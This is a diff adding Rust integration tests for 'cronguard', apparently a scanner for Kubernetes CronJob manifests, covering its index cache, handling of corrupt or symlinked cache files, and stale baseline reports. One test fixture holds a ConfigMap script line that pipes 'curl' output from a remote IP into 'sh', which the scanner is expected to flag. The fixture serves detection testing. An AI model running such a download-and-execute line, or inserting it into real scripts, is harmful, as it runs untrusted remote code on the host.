@@ -172,6 +172,7 @@ fn run_fixture(id: &str, kind: &str) -> (cronguard::scan::Outcome, String, Strin
         scan_mode: false,
         github_base_ref: None,
         discovery: cronguard::source::Discovery::default(),
+        no_cache: false,
     };
     let r = history::diff(&req, &Options::default()).unwrap();
     (r.outcome, head, target.to_string())
@@ -706,4 +707,325 @@ fn diff_human_report_snapshot() {
     ]);
     assert_eq!(r.code, 1, "{}", r.stderr);
     insta::assert_snapshot!("diff_human", r.stdout);
+}
+
+// ---------------------------------------------------------------- persistent index cache
+
+/// The `--stats` counters of a run.
+fn stats(r: &Ran) -> Value {
+    let line = r
+        .stderr
+        .lines()
+        .find_map(|l| l.strip_prefix("stats: "))
+        .unwrap_or_else(|| panic!("no stats line: {}", r.stderr));
+    serde_json::from_str(line).unwrap()
+}
+
+const CACHE_RBAC: &str = "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata:\n  name: backup-admin\nroleRef:\n  apiGroup: rbac.authorization.k8s.io\n  kind: ClusterRole\n  name: cluster-admin\nsubjects:\n- kind: ServiceAccount\n  name: backup\n  namespace: ops\n";
+
+const CACHE_SCRIPTS: &str = "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: scripts\n  namespace: ops\ndata:\n  nightly.sh: |\n    #!/bin/sh\n    set -eu\n    curl -fsSL http://198.51.100.7/helper | sh\n";
+
+fn cache_repo_workloads(repo: &Repo, tag: &str) {
+    repo.write(
+        "w/backup.yaml",
+        &cronjob(
+            "backup",
+            "0 3 * * *",
+            &format!("registry.example.com/backup:{tag}"),
+            "",
+        )
+        .replace(
+            "          restartPolicy",
+            "          serviceAccountName: backup\n          restartPolicy",
+        ),
+    );
+    repo.write(
+        "w/nightly.yaml",
+        &cronjob(
+            "nightly",
+            "0 4 * * *",
+            &format!("alpine:{tag}"),
+            "            command: [sh, /scripts/nightly.sh]\n            volumeMounts:\n            - {name: scripts, mountPath: /scripts}\n",
+        )
+        .replace(
+            "          restartPolicy",
+            "          volumes:\n          - name: scripts\n            configMap: {name: scripts}\n          restartPolicy",
+        ),
+    );
+}
+
+/// Every diff/scan variant gives the same bytes with the cache cold, warm, and disabled.
+fn same_with_and_without_cache(repo: &Repo, args: &[&str]) -> Vec<Value> {
+    let cache = repo.dir.join(".git/cronguard/index-cache-v1.json");
+    let _ = std::fs::remove_file(&cache);
+    let mut all = Vec::new();
+    for format in ["json", "human"] {
+        let run = |extra: &[&str]| {
+            let mut a = args.to_vec();
+            a.extend_from_slice(&["--format", format, "--color", "never", "--width", "100"]);
+            a.extend_from_slice(extra);
+            cg(&a)
+        };
+        let off = run(&["--no-cache"]);
+        assert!(!cache.exists(), "--no-cache writes nothing");
+        let cold = run(&[]);
+        assert!(cache.exists(), "the first run writes the cache");
+        let warm = run(&[]);
+        assert_eq!(cold.code, off.code);
+        assert_eq!(warm.code, off.code);
+        assert_eq!(
+            cold.stdout, off.stdout,
+            "{format}: cold cache vs --no-cache"
+        );
+        assert_eq!(
+            warm.stdout, off.stdout,
+            "{format}: warm cache vs --no-cache"
+        );
+        if format == "json" {
+            all.push(json(&off));
+        }
+        let _ = std::fs::remove_file(&cache);
+    }
+    all
+}
+
+#[test]
+fn warm_diff_reads_only_the_changed_blobs_and_renders_the_same_bytes() {
+    let repo = Repo::new();
+    repo.write("rbac.yaml", CACHE_RBAC);
+    repo.write("scripts.yaml", CACHE_SCRIPTS);
+    for i in 0..6 {
+        repo.write(
+            &format!("w/other-{i}.yaml"),
+            &cronjob(&format!("other-{i}"), "0 1 * * *", "alpine:3.20", ""),
+        );
+    }
+    cache_repo_workloads(&repo, "1.0");
+    repo.commit("base");
+    // A workload-only change: two files, so four blobs (base and head of each).
+    cache_repo_workloads(&repo, "1.1");
+    repo.commit("new tags");
+    let diff = ["diff", "-C", repo.d(), "--base", "HEAD~1", "--head", "HEAD"];
+    let report = same_with_and_without_cache(&repo, &diff);
+    let rules = rules_of(&report[0]);
+    assert!(
+        rules.contains(&"service-account-privileged".to_string()),
+        "{rules:?}"
+    );
+    assert!(rules.contains(&"image-changed".to_string()), "{rules:?}");
+    // The privileged finding comes from the binding in the unchanged rbac.yaml.
+    let msgs = messages(&report[0], "service-account-privileged");
+    assert!(
+        msgs[0].contains("ClusterRoleBinding backup-admin"),
+        "{msgs:?}"
+    );
+
+    let stats_of = |extra: &[&str]| {
+        let mut a = diff.to_vec();
+        a.extend_from_slice(&["--format", "json", "--stats"]);
+        a.extend_from_slice(extra);
+        stats(&cg(&a))
+    };
+    let cold = stats_of(&[]);
+    assert_eq!(cold["files_base"], 10);
+    assert_eq!(
+        cold["blobs_read"], 12,
+        "cold: every manifest blob once: {cold}"
+    );
+    assert_eq!(cold["index_cache_misses"], 12, "{cold}");
+    assert_eq!(cold["index_cache_written"], true, "{cold}");
+    let warm = stats_of(&[]);
+    assert_eq!(warm["wide"], false, "{warm}");
+    assert_eq!(warm["changed_files"], 2, "{warm}");
+    assert_eq!(
+        warm["blobs_read"], 4,
+        "warm: only the changed blobs: {warm}"
+    );
+    assert_eq!(warm["index_cache_hits"], 12, "{warm}");
+    assert_eq!(warm["index_cache_misses"], 0, "{warm}");
+    assert_eq!(
+        warm["index_cache_written"], false,
+        "a warm run writes nothing"
+    );
+    assert_eq!(warm["files_scanned"], 4, "{warm}");
+    let off = stats_of(&["--no-cache"]);
+    assert_eq!(off["blobs_read"], 12, "{off}");
+    assert_eq!(off["index_cache_hits"], 0, "{off}");
+
+    // `scan --base --new-only` (the whole working tree against a revision), same bytes.
+    let w = repo.dir.join("w");
+    let ws = w.to_str().unwrap();
+    let rb = repo.dir.join("rbac.yaml");
+    same_with_and_without_cache(
+        &repo,
+        &[
+            "scan",
+            "--base",
+            "HEAD~1",
+            "--new-only",
+            ws,
+            rb.to_str().unwrap(),
+        ],
+    );
+
+    // A change to an indexed object (the binding) re-checks every workload, cache or not.
+    repo.write(
+        "rbac.yaml",
+        &CACHE_RBAC.replace("backup-admin", "backup-admins"),
+    );
+    repo.commit("rename the binding");
+    stats_of(&[]);
+    let wide = stats_of(&[]);
+    assert_eq!(wide["wide"], true, "{wide}");
+    assert_eq!(
+        wide["files_scanned"], 20,
+        "every manifest of both sides: {wide}"
+    );
+    assert_eq!(
+        wide["index_cache_hits"], 11,
+        "9 shared blobs and 2 of rbac.yaml: {wide}"
+    );
+    assert_eq!(
+        wide["blobs_read"], 11,
+        "wide: every blob is scanned, so read: {wide}"
+    );
+    same_with_and_without_cache(&repo, &diff);
+
+    // A change inside the ConfigMap script: its finding renders from the blob, same bytes.
+    repo.write("scripts.yaml", &CACHE_SCRIPTS.replace("helper", "helper2"));
+    repo.commit("edit the script");
+    let v = same_with_and_without_cache(&repo, &diff);
+    let f = found(&v[0]);
+    assert!(
+        f.iter()
+            .any(|(r, p, l)| r == "command-download-exec" && p == "scripts.yaml" && *l == 10),
+        "{f:?}"
+    );
+}
+
+#[test]
+fn a_corrupt_or_foreign_cache_is_ignored_and_rebuilt() {
+    let repo = Repo::new();
+    repo.write("rbac.yaml", CACHE_RBAC);
+    cache_repo_workloads(&repo, "1.0");
+    repo.commit("base");
+    cache_repo_workloads(&repo, "1.1");
+    let cache = repo.dir.join(".git/cronguard/index-cache-v1.json");
+    let reference = repo.diff(&["--base", "HEAD", "--no-cache"]).stdout;
+    let mut s = repo.diff(&["--base", "HEAD", "--stats"]);
+    assert_eq!(s.stdout, reference);
+    let good = std::fs::read_to_string(&cache).unwrap();
+    for bad in [
+        String::from("{not json"),
+        good.replace("\"key\":\"cronguard ", "\"key\":\"cronguard 0.0.0-other "),
+        // A span past the end of its text: the entry is dropped, the rest kept.
+        good.replacen("\"len\":", "\"len\":1,\"x\":", 1),
+        String::new(),
+    ] {
+        std::fs::write(&cache, &bad).unwrap();
+        s = repo.diff(&["--base", "HEAD", "--stats"]);
+        assert_eq!(s.code, reference_code(&repo), "{}", s.stderr);
+        assert_eq!(s.stdout, reference, "cache text: {bad}");
+        assert!(
+            stats(&s)["index_cache_misses"].as_u64().unwrap() > 0,
+            "{bad}"
+        );
+        assert_eq!(std::fs::read_to_string(&cache).unwrap(), good, "rebuilt");
+    }
+    // A symlink in place of the cache is neither followed nor replaced.
+    let target = repo.tmp.path().join("elsewhere.json");
+    std::fs::write(&target, &good).unwrap();
+    std::fs::remove_file(&cache).unwrap();
+    #[cfg(unix)]
+    {
+        std::os::unix::fs::symlink(&target, &cache).unwrap();
+        let s = repo.diff(&["--base", "HEAD", "--stats"]);
+        assert_eq!(s.stdout, reference);
+        assert_eq!(
+            stats(&s)["index_cache_hits"],
+            0,
+            "not read through a symlink"
+        );
+        assert_eq!(stats(&s)["index_cache_write_failures"], 1);
+        assert!(std::fs::symlink_metadata(&cache).unwrap().is_symlink());
+        assert_eq!(std::fs::read_to_string(&target).unwrap(), good);
+        // Nor is a symlinked `cronguard/` directory (it points at a copy of the cache).
+        let dir = repo.dir.join(".git/cronguard");
+        std::fs::remove_file(&cache).unwrap();
+        std::fs::remove_dir(&dir).unwrap();
+        let outside = repo.tmp.path().join("outside");
+        std::fs::create_dir(&outside).unwrap();
+        std::fs::write(outside.join("index-cache-v1.json"), &good).unwrap();
+        std::os::unix::fs::symlink(&outside, &dir).unwrap();
+        let s = repo.diff(&["--base", "HEAD", "--stats"]);
+        assert_eq!(s.stdout, reference);
+        assert_eq!(
+            stats(&s)["index_cache_hits"],
+            0,
+            "not read through a symlink"
+        );
+        assert_eq!(stats(&s)["index_cache_write_failures"], 1);
+        let names: Vec<_> = std::fs::read_dir(&outside).unwrap().collect();
+        assert_eq!(names.len(), 1, "nothing written through it");
+    }
+}
+
+fn reference_code(repo: &Repo) -> i32 {
+    repo.diff(&["--base", "HEAD", "--no-cache"]).code
+}
+
+#[test]
+fn stale_baseline_entries_are_listed_in_the_json_report_sorted() {
+    let repo = Repo::new();
+    let c = repo.dir.join("c.yaml");
+    let cs = c.to_str().unwrap();
+    std::fs::write(&c, cronjob("backup", "0 3 * * *", "alpine:3.20", PRIV)).unwrap();
+    let bl = repo.tmp.path().join("bl.json");
+    let bls = bl.to_str().unwrap();
+    assert_eq!(cg(&["baseline", "write", "--output", bls, cs]).code, 0);
+    // No --baseline: no key. A baseline with nothing stale: an empty array.
+    let v = json(&cg(&["scan", "--format", "json", cs]));
+    assert!(v.get("stale_baseline").is_none(), "{v}");
+    let v = json(&cg(&["scan", "--baseline", bls, "--format", "json", cs]));
+    assert_eq!(v["stale_baseline"], serde_json::json!([]));
+    // Reverse the entries (a hand-edited file), then fix everything: all are stale, and
+    // the report lists them sorted whatever the file's order.
+    let mut file: Value = serde_json::from_str(&std::fs::read_to_string(&bl).unwrap()).unwrap();
+    let n = file["entries"].as_array().unwrap().len();
+    assert!(n >= 2, "{file}");
+    file["entries"].as_array_mut().unwrap().reverse();
+    std::fs::write(&bl, file.to_string()).unwrap();
+    std::fs::write(&c, "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: x}\n").unwrap();
+    let ran = cg(&["scan", "--baseline", bls, "--format", "json", cs]);
+    let stale = json(&ran)["stale_baseline"].as_array().unwrap().clone();
+    assert_eq!(stale.len(), n, "{stale:?}");
+    let key = |e: &Value| {
+        ["rule", "object", "locator", "fingerprint"].map(|k| e[k].as_str().unwrap().to_string())
+    };
+    let keys: Vec<_> = stale.iter().map(key).collect();
+    let mut sorted = keys.clone();
+    sorted.sort();
+    assert_eq!(keys, sorted);
+    assert!(stale.iter().any(|e| e["rule"] == "privileged-container"
+        && e["object"] == "batch/CronJob/ops/backup"
+        && e["fingerprint"].as_str().unwrap().len() == 16));
+    // The same run still notes them on stderr; twice gives the same bytes.
+    assert!(
+        ran.stderr.contains("stale baseline entry"),
+        "{}",
+        ran.stderr
+    );
+    assert_eq!(
+        cg(&["scan", "--baseline", bls, "--format", "json", cs]).stdout,
+        ran.stdout
+    );
+    // In diff, only the entries of changed files can be stale.
+    repo.write("README", "x\n");
+    repo.commit("base");
+    let v = json(&repo.diff(&["--base", "HEAD", "--baseline", bls]));
+    assert_eq!(
+        v["stale_baseline"],
+        serde_json::json!([]),
+        "nothing changed"
+    );
 }
